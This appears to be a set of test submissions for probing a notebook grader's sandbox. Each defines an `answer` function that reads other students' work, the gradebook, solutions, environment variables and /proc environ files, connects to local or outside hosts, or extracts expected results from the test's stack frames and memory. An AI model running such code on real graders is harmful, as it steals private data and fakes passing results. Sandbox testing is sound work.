# Read what is not theirs. Each submission defines `answer`, which then stands in for every graded
# function. @COURSE@ is the course folder, @PORT@ a port that listens on this machine.

# %% read the notebooks in the working folder
import glob


def answer(*args, **kwargs):
    raise ValueError(" ".join(open(name).read() for name in glob.glob("*")))


# %% read other students' submissions
import pathlib


def answer(*args, **kwargs):
    files = pathlib.Path("@COURSE@/submitted").rglob("*.ipynb")
    raise ValueError(" ".join(file.read_text() for file in files))


# %% read the gradebook
def answer(*args, **kwargs):
    raise ValueError(open("@COURSE@/gradebook.db", "rb").read().decode("latin1"))


# %% read the instructor's source
import os


def answer(*args, **kwargs):
    for folder, _, names in os.walk("@COURSE@/solutions"):
        for name in names:
            print(open(os.path.join(folder, name)).read())
    raise ValueError(os.listdir("@COURSE@"))


# %% read the environment and the home folder of the grader
import os
import pathlib

print(dict(os.environ))


def answer(*args, **kwargs):
    found = [str(os.environ), str(os.listdir(pathlib.Path.home()))]
    for file in pathlib.Path.home().iterdir():
        found.append(file.read_text())
    raise ValueError(found)


# %% read the environment of other processes
import glob


def answer(*args, **kwargs):
    raise ValueError([open(name, "rb").read() for name in glob.glob("/proc/*/environ")])


# %% connect to a service on this machine
import socket


def answer(*args, **kwargs):
    socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(b"stolen")
    raise ValueError("connected")


# %% connect to the outside, by address and by name
import socket


def answer(*args, **kwargs):
    for host in ("192.0.2.1", "example.com"):
        socket.create_connection((host, 80), timeout=2)
    raise ValueError("connected")


# %% return what the calling test expects, from its frame
import sys


def answer(*args, **kwargs):
    frame = sys._getframe()
    while frame is not None:
        for name in ("expected", "want", "right", "truth", "reference"):
            if name in frame.f_locals:
                return frame.f_locals[name]
            if name in frame.f_globals:
                return frame.f_globals[name]
        frame = frame.f_back
    return 0.0


# %% read the running test's source from the history and linecache
import linecache
import sys


def answer(*args, **kwargs):
    said = [str(value) for value in linecache.cache.values()]
    said += [str(vars(module).get("In")) for module in list(sys.modules.values()) if module]
    raise ValueError(" ".join(said))


# %% find the tests in the memory of this process
import gc


def answer(*args, **kwargs):
    texts = [thing for thing in gc.get_objects() if isinstance(thing, (str, dict))]
    raise ValueError([text for text in map(str, texts) if "HIDDEN" in text or "expected" in text])


# %% print the inputs of hidden tests
def answer(*args, **kwargs):
    print("SEEN", args, kwargs)
    raise ValueError(f"SEEN {args} {kwargs}")
